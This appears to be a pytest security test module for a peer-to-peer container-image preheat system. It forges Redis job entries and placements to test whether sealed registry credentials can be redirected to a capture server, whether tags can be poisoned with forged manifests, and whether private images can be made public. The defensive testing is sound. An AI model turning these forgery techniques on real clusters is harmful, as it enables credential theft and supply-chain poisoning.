"""Attacks on preheat jobs through a real TLS cluster sharing a real redis-server.

The attacker here is the one docs/security.md names for preheats: whoever can write the
job board (Redis: "a lying scheduler or Redis can make a preheat fail, never place wrong
bytes"), and a guest of the manager. Every test asserts the SAFE behaviour: it fails
while the hole it names is open.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
import os
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from testkit.daemon import Damselfly
from testkit.images import OCI_MANIFEST, build_image, push_image
from testkit.processes import QuietRequestHandler, ThreadedHTTPServer
from testkit.registry import Registry, RegistryClient, htpasswd_auth
from testkit.wait import free_port, wait_until
from tests.support.preheat import FINAL, WAIT, Members, ended, preheat, preheat_members

MiB = 1024 * 1024
USER, PASSWORD = "mallory-victim", "attack-preheat-secret"
BASIC = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
PREFIX = "damselfly:jobs"


class CaptureRegistry:
    """A registry that answers every request 401 with a Basic challenge (404 once
    credentials come) and records each request's Authorization: a host that must never
    see another registry's credentials."""

    def __init__(self) -> None:
        self.port = free_port()
        self.seen: list[tuple[str, str | None]] = []
        fake = self

        class Handler(QuietRequestHandler):
            def _answer(self) -> None:
                authorization = self.headers.get("Authorization")
                fake.seen.append((self.path, authorization))
                self.send_response(404 if authorization else 401)
                if not authorization:
                    self.send_header("WWW-Authenticate", 'Basic realm="capture"')
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_HEAD = _answer  # noqa: N815

        self.server = ThreadedHTTPServer(Handler, self.port)

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.port}"

    def stop(self) -> None:
        self.server.stop()


@dataclass
class Cluster:
    """The module's registries beside the preheat cluster's members."""

    registry: Registry
    private: Registry
    capture: CaptureRegistry
    members: Members

    def __getattr__(self, name: str) -> Any:  # tmp, redis, manager, scheduler, seed, peers, root
        return getattr(self.members, name)


@pytest.fixture(scope="module")
def cluster(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    tmp = tmp_path_factory.mktemp("preheat-attacks")
    registry = Registry(tmp / "registry").start()
    private = Registry(tmp / "private", auth=htpasswd_auth(tmp / "private", {USER: PASSWORD})).start()
    capture = CaptureRegistry()
    try:
        with preheat_members(tmp, [registry.host, private.host, capture.host], 2) as members:
            yield Cluster(registry, private, capture, members)
    finally:
        for stop in (capture.stop, private.stop, registry.stop):
            stop()


# --- helpers -----------------------------------------------------------------------------------------------------

def captured_payload(cluster: Cluster, job_id: int) -> dict[str, Any]:
    """What anyone reading Redis sees of a job while it is on the board."""
    client = cluster.redis.client()

    def grab() -> dict[str, Any] | None:
        for key in client.scan_iter(f"{PREFIX}:*:{job_id}:job"):
            raw = client.get(key)
            if raw:
                return json.loads(raw)
        return None

    return wait_until(grab, WAIT, f"job {job_id} on the board")


def inject(cluster: Cluster, payload: dict[str, Any]) -> None:
    """Post a job on the board as the manager would: all it takes is write access to Redis."""
    client = cluster.redis.client()
    key = f"{PREFIX}:{payload['cluster_id']}:{payload['id']}:job"
    client.set(key, json.dumps(payload).encode(), ex=600)
    client.sadd(f"{PREFIX}:{payload['cluster_id']}", str(payload["id"]))


def injected_progress(cluster: Cluster, payload: dict[str, Any]) -> dict[str, Any] | None:
    raw = cluster.redis.client().get(f"{PREFIX}:{payload['cluster_id']}:{payload['id']}:progress")
    return json.loads(raw) if raw else None


def injected_job_ended(cluster: Cluster, payload: dict[str, Any], timeout: float = WAIT) -> dict[str, Any]:
    return wait_until(lambda: (p := injected_progress(cluster, payload)) is not None and p["state"] in FINAL and p,
                      timeout, f"injected job {payload['id']} to end")


def manifest_entry(body: bytes) -> dict[str, str]:
    return {"digest": "sha256:" + hashlib.sha256(body).hexdigest(), "media_type": OCI_MANIFEST,
            "body": base64.b64encode(body).decode()}


_next_id = [900_000 + int(time.time()) % 50_000]


def fresh_id() -> int:
    _next_id[0] += 1
    return _next_id[0]


# --- 1. sealed credentials are not bound to the registry they are for ------------------------------------------

def test_sealed_credentials_cannot_be_sent_to_another_registry(cluster: Cluster) -> None:
    """The manager seals a private preheat's Authorization for (job id, seed host id) only.
    The registry and repository travel beside it in clear (in Redis and in the placement),
    so whoever writes Redis (or holds a scheduler certificate) re-points the job at a
    registry of their choosing, and the seed opens the credentials and sends them there."""
    image = build_image("attack/private-redirect", [256 * 1024], tag="v1")
    push_image(RegistryClient(cluster.private.url, credentials=(USER, PASSWORD)), image)
    with cluster.root() as root:
        job = preheat(root, url=image.reference(cluster.private.host), username=USER, password=PASSWORD)
        payload = captured_payload(cluster, job["id"])
        assert ended(root, job)["state"] == "SUCCESS"
    assert payload["sealed"], "the credentials are on the board, sealed"

    # The job ended and left the board. Post it again, the sealed value untouched, but for
    # a blob the seed does not hold, at another registry.
    forged = copy.deepcopy(payload)
    forged["manifests"] = []
    forged["signed"]["statement"].update(
        registry=cluster.capture.host, manifests={}, tags={}, deadline=time.time() + 40,
        blobs={"sha256:" + hashlib.sha256(os.urandom(16)).hexdigest(): 1234})
    inject(cluster, forged)
    injected_job_ended(cluster, forged)
    leaked = [path for path, authorization in cluster.capture.seen if authorization == BASIC]
    assert not leaked, f"the seed sent {USER}'s credentials for {cluster.private.host} to {cluster.capture.host}: {leaked}"


# --- 2. tags placed by a preheat are whatever the board says ----------------------------------------------------

def test_a_forged_job_cannot_poison_a_tag_for_registry_outages(cluster: Cluster) -> None:
    """Manifests placed by a preheat are checked against their own digest only, and a tag
    against "one of the manifests placed": whoever writes Redis places any manifest and any
    tag. With the registry down, every node then serves the forged manifest for the tag
    (pointing, say, at an older, vulnerable image's layers)."""
    image = build_image("attack/poison", [128 * 1024], tag="v1")
    push_image(RegistryClient(cluster.registry.url), image)
    forged_manifest = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST,
                                  "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                                             "digest": "sha256:" + "a" * 64, "size": 2},
                                  "layers": [], "annotations": {"forged": "by whoever writes redis"}}).encode()
    entry = manifest_entry(forged_manifest)
    job_id = fresh_id()
    statement = {"job_id": job_id, "registry": cluster.registry.host, "repository": image.name, "private": False,
                 "deadline": time.time() + 40, "tags": {"v1": entry["digest"]}, "manifests": {entry["digest"]: OCI_MANIFEST},
                 "blobs": {}}
    forged = {"id": job_id, "cluster_id": 1, "manifests": [entry],
              "signed": {"statement": statement, "signature": {"kind": "hmac", "value": "AAAA", "certificate": ""}},
              "selection": {"scope": "all_peers", "count": None, "percentage": None, "ips": []}, "sealed": {}}
    inject(cluster, forged)
    injected_job_ended(cluster, forged)

    cluster.registry.stop()
    try:
        with httpx.Client(timeout=30) as client:
            for node in [cluster.seed, *cluster.peers]:
                answer = client.get(f"{node.url}/v2/{image.name}/manifests/v1", params={"ns": cluster.registry.host},
                                    headers={"Accept": OCI_MANIFEST})
                assert answer.content != forged_manifest, f"{node.url} serves the forged manifest for {image.name}:v1"
    finally:
        cluster.registry.start()


# --- 3. "private" is whatever the board says ----------------------------------------------------------------------

def _flip_private_image(cluster: Cluster, name: str) -> tuple[Any, dict[str, Any]]:
    """A private image preheated onto its seed only, then posted again by whoever writes
    Redis as a PUBLIC job for all peers (its manifests are on the board in clear)."""
    image = build_image(name, [256 * 1024], tag="v1")
    push_image(RegistryClient(cluster.private.url, credentials=(USER, PASSWORD)), image)
    with cluster.root() as root:
        job = preheat(root, url=image.reference(cluster.private.host), username=USER, password=PASSWORD,
                      scope="single_seed_peer")
        payload = captured_payload(cluster, job["id"])
        assert ended(root, job)["state"] == "SUCCESS"
    forged = copy.deepcopy(payload)
    forged.update(id=fresh_id(), sealed={}, selection={"scope": "all_peers", "count": None, "percentage": None,
                                                         "ips": []})
    forged["signed"]["statement"].update(job_id=forged["id"], private=False, deadline=time.time() + 40,
                                         blobs={image.layers[-1].digest: len(image.layers[-1].data)})
    inject(cluster, forged)
    injected_job_ended(cluster, forged)
    return image, forged


def test_a_forged_public_job_cannot_make_a_private_blob_public(cluster: Cluster) -> None:
    """The seed holds the private layer (protected); the forged job's placement tells each
    peer private=False, so the peer fetches it from the seed through P2P (its X-Piece-Origin
    matches the seed's protected origin) and stores it unprotected: any local client of the
    peer then reads it without credentials, no access check."""
    image, _ = _flip_private_image(cluster, "attack/private-flip-blob")
    layer = image.layers[-1]
    with httpx.Client(timeout=30) as client:
        for peer in cluster.peers:
            answer = client.get(f"{peer.url}/v2/{image.name}/blobs/{layer.digest}", params={"ns": cluster.private.host})
            assert answer.status_code >= 400 and layer.data[:64] not in answer.content, \
                f"{peer.url} serves the private layer to a caller without credentials ({answer.status_code})"


def test_a_forged_public_job_cannot_make_a_private_manifest_public(cluster: Cluster) -> None:
    """ManifestStore.put: "a public copy replaces a protected one". A placement saying
    private=False turns the seed's protected copy public (and gives the peers a public one):
    in an outage a caller without credentials gets the private manifest, not 503."""
    image, _ = _flip_private_image(cluster, "attack/private-flip-manifest")
    cluster.private.stop()
    try:
        with httpx.Client(timeout=30) as client:
            served = []
            for node in [cluster.seed, *cluster.peers]:
                answer = client.get(f"{node.url}/v2/{image.name}/manifests/v1", params={"ns": cluster.private.host},
                                    headers={"Accept": OCI_MANIFEST})
                if answer.status_code == 200 or answer.content == image.manifest:  # 503 (kept, private) or 502
                    served.append((node.url, answer.status_code))
            assert not served, f"the private manifest goes to callers without credentials in an outage: {served}"
    finally:
        cluster.private.start()


# --- 4. one bad progress document stalls every job -------------------------------------------------------------

def test_a_malformed_progress_document_does_not_stall_every_other_job(cluster: Cluster) -> None:
    """JobBoard.progress accepts a host's ``error`` of any JSON type; the manager's JobHost
    model then raises a ValidationError in JobDispatcher._collect, which is not a KV error:
    tick() aborts at that job every second, forever, and no later job is ever posted (nor
    the bad one timed out: its deadline is checked after the failing line)."""
    image = build_image("attack/stall", [64 * 1024], tag="v1")
    push_image(RegistryClient(cluster.registry.url), image)
    with cluster.root() as root:
        other = root.post("/clusters", json={"name": f"no-scheduler-{fresh_id()}"})
        assert other.status_code == 201, other.text
        stuck = root.post("/jobs", json={"type": "preheat", "cluster_ids": [other.json()["id"]],
                                         "args": {"type": "image", "url": image.reference(cluster.registry.host),
                                                  "timeout": 20}}).json()
        captured_payload(cluster, stuck["id"])  # posted: nobody will claim it
        bad = {"state": "RUNNING", "error": None,
               "blobs": [{"digest": image.manifest_digest, "size": 1, "kind": "manifest",
                          "hosts": [{"host_id": "x", "state": "failed", "error": {"not": "a string"}}]}]}
        cluster.redis.client().set(f"{PREFIX}:{other.json()['id']}:{stuck['id']}:progress", json.dumps(bad), ex=600)
        try:
            job = preheat(root, url=image.reference(cluster.registry.host))
            assert ended(root, job, timeout=45)["state"] == "SUCCESS"
            assert ended(root, stuck, timeout=20 + 45)["state"] == "FAILURE"
        finally:
            root.delete(f"/jobs/{stuck['id']}")


# --- 5. credentials in the URL --------------------------------------------------------------------------------

def test_credentials_written_into_the_url_are_never_stored_shown_or_logged(cluster: Cluster) -> None:
    """resolve_image refuses user:password@ in a URL, but only once the dispatcher resolves
    it: by then create_job has stored the URL (shown to every guest in /jobs), written it
    into the audit summary and logged it at INFO."""
    secret = "url-embedded-secret-3141"
    url = f"https://{USER}:{secret}@127.0.0.1:1/v2/attack/app/manifests/v1"
    with cluster.root() as root:
        answer = root.post("/jobs", json={"type": "preheat", "args": {"type": "image", "url": url}})
        if answer.status_code == 201:
            ended(root, answer.json())
        audit = root.get("/audit").text
    with cluster.manager.guest("attack-guest") as guest:
        jobs = guest.get("/jobs").text
    leaks = [where for where, text in [("a guest's /jobs", jobs), ("the audit log", audit),
                                       ("the manager's log", cluster.manager.log())] if secret in text]
    assert not leaks, f"the password written into the URL shows in {', '.join(leaks)}"


# --- 6. no TLS: any local process places manifests and tags -----------------------------------------------------

def test_a_local_process_cannot_place_tags_on_a_node_without_tls(tmp_path: Path, cluster: Cluster) -> None:
    """Without --tls-dir, placements are taken from any loopback caller: the "local client"
    attacker (any process on the node) poisons a tag, and the next pull in an outage gets
    its manifest. Placements, unlike piece reports, name what containerd will run."""
    image = build_image("attack/local-poison", [64 * 1024], tag="v1")
    push_image(RegistryClient(cluster.registry.url), image)
    node = Damselfly(tmp_path / "data", ["--registry", f"{cluster.registry.host}={cluster.registry.url}"]).start()
    try:
        forged_manifest = json.dumps({"schemaVersion": 2, "mediaType": OCI_MANIFEST, "layers": [],
                                      "config": {"mediaType": "application/vnd.oci.image.config.v1+json",
                                                 "digest": "sha256:" + "e" * 64, "size": 2}}).encode()
        entry = manifest_entry(forged_manifest)
        answer = httpx.post(f"http://127.0.0.1:{node.upload_port}/api/v1/preheat/manifests", timeout=30,
                            json={"registry": cluster.registry.host, "repository": image.name, "private": False,
                                  "manifests": [entry], "tags": {"v1": entry["digest"]}})
        cluster.registry.stop()
        try:
            pulled = httpx.get(f"{node.url}/v2/{image.name}/manifests/v1", params={"ns": cluster.registry.host},
                               headers={"Accept": OCI_MANIFEST}, timeout=30)
        finally:
            cluster.registry.start()
        assert pulled.content != forged_manifest, \
            f"a local process placed a tag (placement answered {answer.status_code}); the outage pull serves its manifest"
    finally:
        node.stop()
